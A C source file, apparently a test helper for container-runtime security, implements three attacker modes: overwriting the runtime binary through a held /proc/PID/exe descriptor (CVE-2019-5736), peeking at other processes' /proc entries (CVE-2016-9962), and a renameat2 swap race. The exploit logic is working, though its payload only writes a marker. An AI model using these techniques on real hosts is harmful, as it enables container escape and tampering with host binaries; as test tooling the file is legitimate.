// What an attacker does inside a container, or beside one. Static.
//
//   hostile overwrite DEVICE INODE   the file of that identity, if a process executes it
//   hostile peek                     at every process that is not a program of the image
//   hostile swap ONE OTHER           two names, until killed
//
// The first two watch until SIGTERM, and the first one strikes then.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static volatile sig_atomic_t told_to_stop;

static void stop(int signal_number) {
  (void)signal_number;
  told_to_stop = 1;
}

static void each_process(void (*look)(const char* pid)) {
  DIR* proc = opendir("/proc");
  if (proc == NULL) return;
  for (struct dirent* entry; (entry = readdir(proc)) != NULL;)
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
      look(entry->d_name);
  closedir(proc);
}

static void watch(void (*look)(const char* pid)) {
  signal(SIGTERM, stop);
  printf("watching\n");
  while (!told_to_stop) each_process(look);
}

// ---- overwrite: CVE-2019-5736 -------------------------------------------------------------------

static dev_t wanted_device;
static ino_t wanted_inode;
static int held[64], held_count;

static void hold_executable(const char* pid) {
  char path[64];
  struct stat info;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  if (held_count < 64 && fstat(fd, &info) == 0 && info.st_dev == wanted_device &&
      info.st_ino == wanted_inode) {
    if (held_count == 0) printf("holds the runtime\n");
    held[held_count++] = fd;
  } else {
    close(fd);
  }
}

// Whether it is worth another try.
static bool overwrite_held(void) {
  bool busy = false;
  for (int i = 0; i < held_count; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
    const int fd = open(path, O_WRONLY | O_APPEND);
    busy = busy || (fd < 0 && errno == ETXTBSY);  // still being executed
    if (fd < 0) continue;
    if (write(fd, "overwritten", 11) == 11) printf("overwritten\n");
    exit(0);
  }
  return busy;
}

static int overwrite(char** argv) {
  wanted_device = strtoull(argv[0], NULL, 10);
  wanted_inode = strtoull(argv[1], NULL, 10);
  watch(hold_executable);
  const double end = now() + 2;
  while (now() < end && overwrite_held()) {
  }
  return 0;
}

// ---- peek: CVE-2016-9962 ------------------------------------------------------------------------

static void peek_at(const char* pid) {
  char path[64], target[256];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const ssize_t length = readlink(path, target, sizeof target - 1);
  if (length <= 0) return;
  target[length] = 0;
  if (strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/hostile") == 0) return;
  printf("saw %s\n", target);
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (fds != NULL) printf("listed its descriptors\n"), closedir(fds);
}

static int peek(void) {
  watch(peek_at);
  return 0;
}

// ---- swap ---------------------------------------------------------------------------------------

// At every pace in turn: who takes many steps must be left alone for some to fall over the next.
static int swap(char** argv) {
  static const long pauses[] = {0, 100000, 1000000, 5000000};  // ns
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (int i = 0; renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0; i++) {
    const struct timespec pause = {.tv_sec = 0, .tv_nsec = pauses[rand() % 4] * (rand() % 4)};
    if (i % 200 > 150 && pause.tv_nsec > 0) nanosleep(&pause, NULL);
  }
  perror("renameat2");
  return 1;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 4 && strcmp(argv[1], "overwrite") == 0) return overwrite(argv + 2);
  if (argc == 2 && strcmp(argv[1], "peek") == 0) return peek();
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv + 2);
  return 2;
}
